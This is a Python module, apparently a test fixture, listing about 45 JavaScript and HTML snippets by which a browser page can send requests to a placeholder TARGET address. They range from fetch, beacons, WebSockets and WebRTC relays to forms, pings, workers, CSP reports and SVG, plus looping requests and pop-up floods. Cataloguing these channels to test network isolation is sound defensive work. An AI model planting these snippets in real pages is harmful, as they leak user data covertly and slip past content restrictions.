"""The channels by which a page may send data; TARGET is an address. Markup starts with <, everything else is script."""

from collections.abc import Mapping
from typing import Final

CHANNELS: Final[Mapping[str, str]] = {
    "fetch": "fetch('TARGET').catch(() => 0)",
    "fetch that outlives": "fetch('TARGET', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'})",
    "fetch without end": "setInterval(() => fetch('TARGET?' + Math.random()).catch(() => 0), 1)",
    "XHR": "const x = new XMLHttpRequest(); x.open('GET', 'TARGET'); x.send()",
    "waiting XHR": "const x = new XMLHttpRequest(); x.open('GET', 'TARGET', false); try { x.send() } catch (e) {}",
    "beacon": "navigator.sendBeacon('TARGET', 'x')",
    "beacon at the end": "addEventListener('pagehide', () => navigator.sendBeacon('TARGET', 'x'))",
    "WebSocket": "new WebSocket('TARGET'.replace(/^\\w+/, 'ws'))",
    "WebSocket in a frame": (
        "const f = document.createElement('iframe'); document.body.append(f);"
        "new f.contentWindow.WebSocket('TARGET'.replace(/^\\w+/, 'ws'))"
    ),
    "EventSource": "new EventSource('TARGET')",
    "WebTransport": "new WebTransport('TARGET'.replace(/^\\w+/, 'https')).ready.catch(() => 0)",
    "WebRTC": (
        "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:' + 'TARGET'.split('/')[2]}]});"
        "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"
    ),
    "WebRTC by relay": (
        "const c = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{urls: 'turn:' +"
        " 'TARGET'.split('/')[2] + '?transport=tcp', username: 'x', credential: 'x'}]});"
        "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"
    ),
    "image": "new Image().src = 'TARGET'",
    "image in markup": "<img src='TARGET'><picture><source srcset='TARGET'><img></picture>",
    "script": "<script src='TARGET'></script><script async src='TARGET?2'></script>",
    "module": "import('TARGET').catch(() => 0)",
    "style sheet": "<link rel=stylesheet href='TARGET'><style>@import 'TARGET'; body { background: url(TARGET) }</style>",
    "font": "<style>@font-face { font-family: x; src: url(TARGET) } p { font-family: x }</style>",
    "prefetch": "<link rel=prefetch href='TARGET'><link rel=preload as=script href='TARGET'>",
    "preconnect": "<link rel=preconnect href='TARGET'><link rel=dns-prefetch href='TARGET'>",
    "preconnect by script": (
        "for (const rel of ['preconnect', 'dns-prefetch', 'prerender']) {"
        " const l = document.createElement('link'); l.rel = rel; l.href = 'TARGET'; document.head.append(l) }"
    ),
    "speculation": (
        '<script type=speculationrules>{"prefetch": [{"urls": ["TARGET"]}],'
        ' "prerender": [{"urls": ["TARGET"]}]}</script>'
    ),
    "frame": "<iframe src='TARGET'></iframe><object data='TARGET'></object><embed src='TARGET'>",
    "frame by script": "const f = document.createElement('iframe'); f.src = 'TARGET'; document.body.append(f)",
    "frame in a frame": "<iframe srcdoc=\"<script>fetch('TARGET'); location = 'TARGET'</script>\"></iframe>",
    "video": "<video src='TARGET' autoplay></video><audio src='TARGET' autoplay></audio>",
    "form": "<form action='TARGET' method=post><input name=a value=b></form><script>document.forms[0].submit()</script>",
    "form in a new window": (
        "<form action='TARGET' target=_blank><input name=a></form><script>document.forms[0].submit()</script>"
    ),
    "pop-up": "for (let i = 0; i < 5; i++) open('TARGET')",
    "pop-up with an opener": "const w = open('about:blank'); try { w.location = 'TARGET'; w.fetch('TARGET') } catch (e) {}",
    "ping": "<a id=a href='#' ping='TARGET'>x</a><script>document.getElementById('a').click()</script>",
    "download": "<a id=a href='TARGET' download=x>x</a><script>document.getElementById('a').click()</script>",
    "location": "location = 'TARGET'",
    "location later": "setTimeout(() => location.replace('TARGET'), 300)",
    "location without end": "setInterval(() => { location.href = 'TARGET?' + Math.random() }, 1)",
    "refresh": "<meta http-equiv=refresh content='0; url=TARGET'>",
    "top": "<iframe srcdoc=\"<script>top.location = 'TARGET'</script>\"></iframe>",
    "worker": (
        "new Worker(URL.createObjectURL(new Blob([\"fetch('TARGET'); importScripts('TARGET');"
        " new WebSocket('TARGET'.replace(/^\\w+/, 'ws'))\"])))"
    ),
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('TARGET')\"])))",
    "service worker": (
        "navigator.serviceWorker.register('TARGET').catch(() => 0);"
        "navigator.serviceWorker.register('/sw.js').then(() => fetch('TARGET')).catch(() => 0)"
    ),
    "report": (
        "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri TARGET\"><img src=x>"
        "<script>new ReportingObserver(() => fetch('TARGET')).observe()</script>"
    ),
    "manifest": "<link rel=manifest href='TARGET'><link rel=icon href='TARGET'>",
    "source map": "<script>eval('1\\n//# sourceMappingURL=TARGET')</script>",
    "XML": "document.load && document.load('TARGET'); new DOMParser().parseFromString('<!DOCTYPE x SYSTEM \"TARGET\"><x/>', 'text/xml')",
    "SVG": "<svg><image href='TARGET'/><use href='TARGET#x'/><script href='TARGET'></script></svg>",
}
